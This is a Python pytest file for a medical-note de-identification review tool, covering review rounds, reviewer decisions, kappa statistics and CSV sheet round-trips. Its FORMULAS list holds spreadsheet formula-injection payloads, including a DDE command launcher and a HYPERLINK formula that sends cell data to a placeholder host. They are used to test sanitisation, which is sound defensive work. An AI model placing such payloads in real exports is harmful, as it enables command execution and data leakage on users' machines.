"""What a round draws, who may say what of it, and the figures that follow."""

from __future__ import annotations

import csv
import io
import json
import os
from concurrent.futures import ThreadPoolExecutor

import pyarrow as pa
import pytest
from command_line import deid
from sqlalchemy import text

from deid_platform.errors import Code, DeidError
from deid_platform.labels import Label
from deid_platform.notes import Span
from deid_platform.refresh.datasets import tables
from deid_platform.review.annotation.rounds import Role
from deid_platform.review.decisions import Category, Decision, Severity, decide, decisions_of, enter, offered, standing
from deid_platform.review.report import kappa, kappa_interval, report, shares
from deid_platform.review.rounds import outside_gold, removals_of_round, start
from deid_platform.review.sheets import as_it_was, export, inert, take_back
from deid_platform.warehouse.server.roles import Role as Database

WRONG = ("Bell", "Cushing", "Ward 4B", "March", "Addison", "Todd")
HIGH = Decision(Category.RELEVANT, Severity.HIGH)
LOW = Decision(Category.RELEVANT, Severity.LOW)
PROVIDER = Decision(Category.PROVIDER)


@pytest.mark.parametrize(
    ("hidden", "gold", "found"),
    [
        ([(0, 4)], [], ["Anna"]),
        ([(0, 4)], [(0, 4)], []),
        ([(0, 4)], [(2, 3)], []),  # a word of which gold has a part is no false positive at the word level
        ([(0, 9)], [(0, 4)], ["Bell"]),
        ([(0, 14)], [(5, 9)], ["Anna", "Carr"]),
        ([(0, 9)], [], ["Anna Bell"]),
        ([(4, 5)], [], []),  # a blank is no word
        ([(0, 4), (10, 14)], [], ["Anna", "Carr"]),
    ],
)
def test_a_removal_is_a_run_of_words_of_one_span_that_touch_no_gold(hidden, gold, found):
    text = "Anna Bell Carr"
    spans = [Span(start, end, Label.PATIENT) for start, end in hidden]
    true = tuple(Span(start, end, Label.PATIENT) for start, end in gold)
    assert [text[start:end] for start, end, _ in outside_gold(text, spans, true)] == found


def test_a_round_holds_what_gold_does_not_mark_and_each_removal_is_drawn_once(reviewed):
    site = reviewed()
    assert start(site, 4) == (1, 4, 6)
    assert start(site, 4) == (2, 2, 2)
    with pytest.raises(DeidError) as none_left:
        start(site, 4)
    assert none_left.value.code is Code.INPUT_EMPTY
    members = [*removals_of_round(site, 1).values(), *removals_of_round(site, 2).values()]
    assert sorted(member.removed for member in members) == sorted(WRONG)
    assert all(m.before.endswith("Known ") and m.after == " palsy, stable." for m in members)
    assert not any(word in repr(members) for word in (*WRONG, "palsy", "n0"))


def test_what_was_withdrawn_is_shown_to_nobody(reviewed):
    site = reviewed()
    start(site, 6)
    gone = [
        {"note_id": "n0", "patient_id": None, "rejoined": False},
        {"note_id": None, "patient_id": "p2", "rejoined": False},
    ]
    site.store.write(tables.WITHDRAWALS, "ehr@1", [pa.Table.from_pylist(gone, schema=tables.WITHDRAWAL_SCHEMA)])
    assert {m.note_id for m in removals_of_round(site, 1).values()} == {"n1", "n2", "n3"}


def test_readers_decide_all_and_the_adjudicator_what_they_differ_on(reviewed):
    site = reviewed()
    start(site, 3)
    one, two, three = removals_of_round(site, 1)
    decide(site, 1, Role.A, {one: HIGH, two: PROVIDER, three: LOW})
    decide(site, 1, Role.B, {one: HIGH, two: LOW})
    assert offered(site, 1, Role.ADJUDICATOR) == [two]
    stands = standing(site, 1)
    assert (stands.waiting, stands.undecided, dict(stands.settled)) == ((three,), (two,), {one: HIGH})
    with pytest.raises(DeidError):
        decide(site, 1, Role.ADJUDICATOR, {one: LOW})
    decide(site, 1, Role.ADJUDICATOR, {two: PROVIDER})
    assert dict(standing(site, 1).settled) == {one: HIGH, two: PROVIDER}


def test_a_decision_is_added_and_never_replaced_and_may_be_taken_back(reviewed):
    site = reviewed()
    start(site, 3)
    one, *_ = removals_of_round(site, 1)
    for said in (HIGH, PROVIDER, None, LOW):
        decide(site, 1, Role.A, {one: said})
    assert decisions_of(reviewed().store, 1, Role.A) == {one: LOW}
    rows = site.store.rows(tables.REVIEW_DECISIONS, "1.A")
    assert [row["category"] for row in rows] == [
        "clinically_relevant",
        "provider_or_clinic",
        None,
        "clinically_relevant",
    ]
    assert all(row["who"] and row["at"] for row in rows)


def test_two_tabs_of_one_reviewer_lose_nothing_to_each_other(reviewed):
    start(reviewed(), 6)
    keys = list(removals_of_round(reviewed(), 1))
    with ThreadPoolExecutor(6) as tabs:
        list(tabs.map(lambda key: decide(reviewed(), 1, Role.A, {key: PROVIDER}), keys))
    assert decisions_of(reviewed().store, 1, Role.A) == dict.fromkeys(keys, PROVIDER)


@pytest.mark.parametrize(
    ("category", "severity"),
    [("nonsense", None), (None, None), ("clinically_relevant", None), ("provider_or_clinic", "high"), ([], None)],
)
def test_a_decision_that_there_is_not_is_refused(category, severity):
    with pytest.raises(DeidError) as refused:
        Decision.parse(category, severity)
    assert refused.value.code is Code.DECISION_INVALID


def test_shares_of_categories_are_of_all_and_of_severities_of_the_relevant_ones():
    decisions = [HIGH] * 6 + [LOW] * 2 + [PROVIDER] * 8
    categories, severities = shares(decisions, [f"p{n}" for n in range(16)])
    assert (categories[Category.RELEVANT].value, categories[Category.PROVIDER].value) == (0.5, 0.5)
    assert (severities[Severity.HIGH].value, severities[Severity.HIGH].total) == (0.75, 8)
    found = categories[Category.RELEVANT]
    assert found.low < 0.5 < found.high
    assert categories[Category.INSENSITIVE].value == 0
    assert shares([], [])[0][Category.RELEVANT].value is None


@pytest.mark.parametrize(
    ("pairs", "value"),
    [
        ([], None),
        ([("a", "a")], None),
        ([("a", "a"), ("b", "b")], 1.0),
        ([("a", "b"), ("b", "a")], -1.0),
        # 20 yes-yes, 5 yes-no, 10 no-yes, 15 no-no: the textbook's 0.4.
        ([("y", "y")] * 20 + [("y", "n")] * 5 + [("n", "y")] * 10 + [("n", "n")] * 15, 0.4),
    ],
)
def test_kappa(pairs, value):
    assert kappa(pairs) == (None if value is None else pytest.approx(value))


TEXTBOOK = [("y", "y")] * 20 + [("y", "n")] * 5 + [("n", "y")] * 10 + [("n", "n")] * 15


def test_the_interval_of_kappa_is_that_of_the_textbook_where_each_patient_has_one_removal():
    low, high = kappa_interval(TEXTBOOK, [f"p{at}" for at in range(50)])
    # Fleiss, Cohen and Everitt 1969: a standard error of 0.127 there, so 0.4 - 1.96 x 0.127 to 0.4 + 1.96 x 0.127.
    assert (low, high) == (pytest.approx(0.15, abs=0.05), pytest.approx(0.65, abs=0.05))
    assert (low, high) == kappa_interval(TEXTBOOK, [f"p{at}" for at in range(50)])  # seeded


def test_the_interval_of_kappa_is_wider_where_few_patients_have_many_removals():
    alone = kappa_interval(TEXTBOOK, [None] * 50)
    few = kappa_interval(TEXTBOOK, [f"p{at // 10}" for at in range(50)])
    assert few[1] - few[0] > alone[1] - alone[0]


@pytest.mark.parametrize(
    ("pairs", "patients", "interval"),
    [([], [], None), ([("a", "b")], ["p"], None), ([("a", "a")] * 9, list("123456789"), None),
     ([("a", "a"), ("b", "b")] * 9, list("123456789") * 2, (1.0, 1.0))],
)  # fmt: skip
def test_the_interval_of_kappa_where_there_is_none_or_no_width(pairs, patients, interval):
    assert kappa_interval(pairs, patients) == interval


def test_a_sheet_goes_out_and_its_decisions_come_back_all_or_none(reviewed, tmp_path):
    site = reviewed()
    start(site, 3)
    one, two, three = removals_of_round(site, 1)
    decide(site, 1, Role.A, {one: HIGH})
    path = tmp_path / "a.csv"
    deid("review", "export", "--as", "A", "--to", str(path))
    assert path.stat().st_mode & 0o077 == 0
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [(row["removal"], row["category"], row["severity"]) for row in rows] == [
        (one, "clinically_relevant", "high"), (two, "", ""), (three, "", "")]  # fmt: skip

    def returned(*said):
        for row, (category, severity) in zip(rows, said, strict=True):
            row |= {"category": category, "severity": severity}
        with path.open("w", encoding="utf-8", newline="") as stream:
            sheet = csv.DictWriter(stream, rows[0])
            sheet.writeheader()
            sheet.writerows(rows)

    returned(("", ""), ("Provider_or_clinic", ""), ("clinically_relevant", ""))
    with pytest.raises(DeidError) as refused:
        take_back(site, 1, Role.A, path)
    assert str(refused.value.ref) == "row 4: severity"
    assert decisions_of(site.store, 1, Role.A) == {one: HIGH}
    returned(("", ""), ("Provider_or_clinic", ""), ("clinically_relevant", "low"))
    assert "2 decisions kept" in deid("review", "import", str(path), "--as", "A").stderr
    assert decisions_of(site.store, 1, Role.A) == {one: HIGH, two: PROVIDER, three: LOW}
    path.write_text("removal;written_for;category;severity\n")
    with pytest.raises(DeidError) as refused:
        take_back(site, 1, Role.A, path)
    assert refused.value.code is Code.INPUT_INVALID


def filled(path, change):
    """Each row of a sheet decided, changed and saved."""
    with path.open(encoding="utf-8", newline="") as stream:
        rows = [row | {"category": "provider_or_clinic"} for row in csv.DictReader(stream)]
    rows = change(rows)
    with path.open("w", encoding="utf-8", newline="") as stream:
        sheet = csv.DictWriter(stream, rows[0])
        sheet.writeheader()
        sheet.writerows(rows)


def test_a_sheet_that_was_sorted_and_cut_is_still_its_readers_own(reviewed, tmp_path, monkeypatch):
    start(reviewed(), 3)
    path = tmp_path / "a.csv"
    export(reviewed(), 1, Role.A, path)
    filled(path, lambda rows: rows[:0:-1])
    # Written under a secret that was changed meanwhile.
    former = tmp_path / "former"
    former.write_text(os.environ["DEID_SECRET"])
    monkeypatch.setenv("DEID_SECRET", "7c1e5a90b2d84f6688a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f60718293a4b")
    monkeypatch.setenv("DEID_PREVIOUS_SECRET_FILES", str(former))
    assert take_back(reviewed(), 1, Role.A, path) == (2, 0)


def emptied(rows):
    return [row | {"category": ""} for row in rows]


def without_a_token(rows):
    """The first row says nothing at all; the second was decided."""
    return [rows[0] | {"category": "", "written_for": ""}, rows[1] | {"written_for": ""}, rows[2]]


def with_the_token_of_another_row(rows):
    return [rows[0] | {"written_for": rows[1]["written_for"]}, *rows[1:]]


@pytest.mark.parametrize(
    ("change", "reference"),
    [
        (list, "row 2: written for A, round 1"),
        (emptied, "row 2: written for A, round 1"),
        (without_a_token, "row 3: it does not say"),
        (with_the_token_of_another_row, "row 2: it does not say"),
    ],
)
def test_a_sheet_of_one_reader_is_none_of_another(reviewed, tmp_path, change, reference):
    site = reviewed()
    start(site, 3)
    path = tmp_path / "a.csv"
    export(site, 1, Role.A, path)
    filled(path, change)
    for role in (Role.B, Role.ADJUDICATOR):
        with pytest.raises(DeidError) as refused:
            take_back(site, 1, role, path)
        assert (refused.value.code, str(refused.value.ref)[: len(reference)]) == (Code.REVIEW_ROLE, reference)
    start(site, 3)
    with pytest.raises(DeidError) as refused:
        take_back(site, 2, Role.A, path)
    assert refused.value.code is Code.REVIEW_ROLE
    assert not any(decisions_of(site.store, number, role) for number in (1, 2) for role in Role)


FORMULAS = (
    "=1+1",
    " @x",
    "- stable",
    "ok;=HYPERLINK(1)",
    'ok;=HYPERLINK("http://x?"&A1;"see")',
    'ok; "=1+1"',
    'ok;"";=1',
    "ok\t=1",
    "ok,+1",
    "ok|@SUM(1)",
    "first\n=1+1",
    "first\r\n- second;-2",
    ";;;=1",
    ";\t\n =cmd|' /C calc'!A0",
    "ok;'=1",
    "\uff1d1+1;\uff0b2",
    "\u200b=1",
    "ok;\ufeff=1",
)


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_ALL, csv.QUOTE_MINIMAL])
def test_no_spreadsheet_finds_a_formula_in_a_sheet_whatever_it_takes_for_a_separator(text, separator, quoting):
    written = io.StringIO()
    csv.writer(written, lineterminator="\n", quoting=quoting).writerow(["key", inert(text), "after"])
    # As a file is read: with its quotes, and line by line.
    readings = [written.getvalue()], written.getvalue().splitlines()
    cells = [
        cell.strip(' \t\r\n\u200b\ufeff"')
        for lines in readings
        for row in csv.reader(io.StringIO("\n".join(lines)) if len(lines) == 1 else lines, delimiter=separator)
        for cell in row
    ]
    assert [cell for cell in cells if cell.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))] == []


@pytest.mark.parametrize(
    "text", [*FORMULAS, "a=b", "", "pH 7.4; BE -2", "x'=y", "3-5 mg, b.i.d.", "ok;''=1", "'=", "it's"]
)
def test_what_was_made_inert_comes_back_as_it_was(text):
    assert as_it_was(inert(text)) == text


@pytest.mark.parametrize("text", ["a=b", "pH 7.4; BE -2", "3-5 mg, b.i.d.", "2+2; x+y", "a@b.org; c@d.org", "it's"])
def test_text_without_a_formula_stays_as_it_is(text):
    assert inert(text) == text


def test_the_command_reports_without_text(reviewed):
    assert "6 removals of 6" in deid("review", "start", "--sample", "9").stderr
    site = reviewed()
    keys = list(removals_of_round(site, 1))
    for role in (Role.A, Role.B):
        decide(site, 1, role, dict.fromkeys(keys[:4], HIGH) | dict.fromkeys(keys[4:], PROVIDER))
    said = deid("review", "report", "--json")
    rows = [json.loads(line) for line in said.stdout.splitlines()]
    assert [(row["what"], row["removals"]) for row in rows if row.get("removals")] == [
        ("clinically_relevant", 4), ("provider_or_clinic", 2), ("high", 4)]  # fmt: skip
    assert "6 settled" in said.stderr
    assert "category 1.000" in said.stderr
    assert not any(word in said.stdout + said.stderr for word in WRONG)
    assert report(site, 1, role=Role.ADJUDICATOR).categories[Category.RELEVANT].value is None


def test_decisions_enter_the_ledger_once_and_those_that_were_changed_do_not(reviewed, warehouse, monkeypatch):
    monkeypatch.setenv("DEID_WAREHOUSE_URL", warehouse.admin_engine().url.render_as_string(hide_password=False))
    site = reviewed()
    start(site, 3)
    one, two, _ = removals_of_round(site, 1)
    decide(site, 1, Role.A, {one: HIGH, two: PROVIDER})
    decide(site, 1, Role.A, {one: None})
    decide(site, 1, Role.B, {one: LOW})
    assert (enter(site, 1), enter(site, 1)) == (4, 0)
    with warehouse.begin(Database.OFFICER) as connection:
        rows = connection.execute(
            text("SELECT role, n, removal, category, severity FROM ctl.removal_decision ORDER BY role, n")
        ).all()
    assert rows == [
        ("A", 1, one, "clinically_relevant", "high"), ("A", 2, two, "provider_or_clinic", None),
        ("A", 3, one, None, None), ("B", 1, one, "clinically_relevant", "low"),
    ]  # fmt: skip
    kept = site.store.rows(tables.REVIEW_DECISIONS, "1.A")
    for rows in (
        kept[:2],
        [*kept[:2], {**kept[2], "category": "provider_or_clinic"}],
        [{**kept[0], "who": "x"}, *kept[1:]],
    ):
        site.store.write(tables.REVIEW_DECISIONS, "1.A", [pa.Table.from_pylist(rows, schema=tables.DECISION_SCHEMA)])
        with pytest.raises(DeidError) as refused:
            enter(site, 1)
        assert refused.value.code is Code.DECISIONS_ALTERED
